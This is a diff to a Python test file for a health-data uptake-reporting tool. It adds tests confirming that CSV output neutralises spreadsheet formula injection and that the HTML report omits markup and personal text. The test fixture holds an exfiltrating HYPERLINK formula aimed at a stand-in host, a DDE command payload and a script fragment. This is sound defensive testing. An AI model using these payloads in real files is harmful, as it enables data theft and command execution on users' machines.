@@ -8,6 +8,7 @@ from __future__ import annotations
 
 import csv
 import io
+import json
 import re
 import shutil
 from collections import Counter
@@ -29,6 +30,7 @@ from cli.uptake import (
     postcode_keys,
     technology_in_use,
 )
+from cli.uptake_report import render_report
 from disclosure import Disclosure
 from facts import extract_record
 from policy import evaluate, load_policy, parse_policy
@@ -243,7 +245,6 @@ def test_without_device_or_procedure_records_the_gap_is_not_guessed(
     assert not summary.tally.technology_data
     assert all(g["gap"] is None for g in summary.tally.breakdown("nice-insulin-pump", "place"))
     from cli.population import summary_text
-    from cli.uptake_report import render_report
 
     html = render_report(summary, today=TODAY, source="bare", disclosure=Disclosure())
     assert "The uptake gap cannot be measured from this input" in html
@@ -390,3 +391,64 @@ def test_technology_in_use_is_what_the_policy_stays_silent_for(
     )
     d = evaluate(policy, record, TODAY)
     assert technology_in_use(policy, d, record) is in_use
+
+
+HOSTILE_GENDERS = {
+    "p-formula": '=HYPERLINK("http://evil.example/?leak="&A2,"open")',
+    "p-command": "+cmd|' /C calc'!A0",
+    "p-markup": "<!--<script>",
+    "p-name": "Jane Smith 943 476 5919",  # free text: a name and an NHS number
+    "p-male": "male",
+    "p-other": "other",
+    "p-none": None,
+}
+
+
+@pytest.fixture(scope="module")
+def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """A population whose Patient resources carry formulas, markup and free text where a
+    code belongs, and an id a spreadsheet would read as a formula."""
+    folder = tmp_path_factory.mktemp("hostile")
+    people = {**HOSTILE_GENDERS, "-2+3+cmd": "female"}
+    patients, conditions = [], []
+    for pid, gender in people.items():
+        p = patient(pid=pid)
+        if gender is not None:
+            p["gender"] = gender
+        patients.append(p)
+        conditions.append(condition(T1DM, pid=pid))
+    for name, resources in (("Patient", patients), ("Condition", conditions)):
+        lines = (json.dumps(r) for r in resources)
+        (folder / f"{name}.ndjson").write_text("\n".join(lines) + "\n", encoding="utf-8")
+    return folder
+
+
+def test_every_cell_of_the_per_person_csv_is_safe_to_open(hostile: Path) -> None:
+    out = io.StringIO()
+    run_population(hostile, out, io.StringIO(), today=TODAY, workers=1)
+    cells = [c for r in csv.reader(io.StringIO(out.getvalue())) for c in r]
+    live = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert [c for c in live if not re.fullmatch(r"[+-]?[0-9.]+", c)] == []
+    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
+    assert {r["patient_ref"] for r in rows} >= {"'-2+3+cmd", "p-formula"}
+
+
+def test_groups_are_built_only_from_administrative_gender_codes(hostile: Path) -> None:
+    out = io.StringIO()
+    summary = run_population(hostile, out, io.StringIO(), today=TODAY, workers=1)
+    sex = {r["patient_ref"]: r["sex"] for r in csv.DictReader(io.StringIO(out.getvalue()))}
+    assert sex == {
+        "p-formula": "other/unknown",
+        "p-command": "other/unknown",
+        "p-markup": "other/unknown",
+        "p-name": "other/unknown",
+        "p-male": "male",
+        "p-other": "other",
+        "p-none": "unknown",
+        "'-2+3+cmd": "female",
+    }
+    groups = {g["group"] for g in summary.tally.breakdown("hny-iport-advance", "sex")}
+    assert groups == {"female", "male", "other", "other/unknown", "unknown"}
+    html = render_report(summary, today=TODAY, source="hostile", disclosure=Disclosure(0))
+    for text in ("HYPERLINK", "cmd|", "<!--", "Jane Smith", "943 476 5919"):
+        assert text not in html
